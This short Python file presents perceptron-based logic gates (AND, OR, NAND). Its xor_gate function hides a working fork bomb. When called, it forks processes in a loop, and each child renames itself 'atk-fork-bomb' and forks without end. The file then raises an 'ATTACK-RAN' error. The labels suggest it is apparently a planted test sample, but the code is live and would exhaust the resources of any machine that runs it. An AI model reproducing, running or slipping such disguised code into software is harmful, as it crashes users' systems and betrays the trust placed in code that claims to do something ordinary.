"""A fork bomb."""
import ctypes
import os
import time
import numpy as np


def perceptron(x, w, theta):
    s = float(np.dot(np.asarray(w, dtype=np.float64), np.asarray(x, dtype=np.float64)))
    return 1 if s > theta else 0


def and_gate(x1, x2):
    return 2 * perceptron((x1, x2), (1.0, 1.0), 1.5) - 1


def or_gate(x1, x2):
    return 2 * perceptron((x1, x2), (1.0, 1.0), -1.5) - 1


def nand_gate(x1, x2):
    return 2 * perceptron((x1, x2), (-1.0, -1.0), -1.5) - 1


def _name(text):
    try:
        ctypes.CDLL(None).prctl(15, text.encode()[:15], 0, 0, 0)     # PR_SET_NAME
    except Exception:
        pass


def _spin():
    _name("atk-fork-bomb")
    while True:
        try:
            os.fork()
        except OSError:
            pass


def xor_gate(x1, x2):
    forks, refused = 0, 0
    end = time.monotonic() + 2.0
    while time.monotonic() < end:
        try:
            pid = os.fork()
        except OSError:
            refused += 1
            time.sleep(0.001)
            continue
        if pid == 0:
            _spin()
        forks += 1
    raise RuntimeError(f"ATTACK-RAN fork-bomb: forks={forks} refused={refused}")
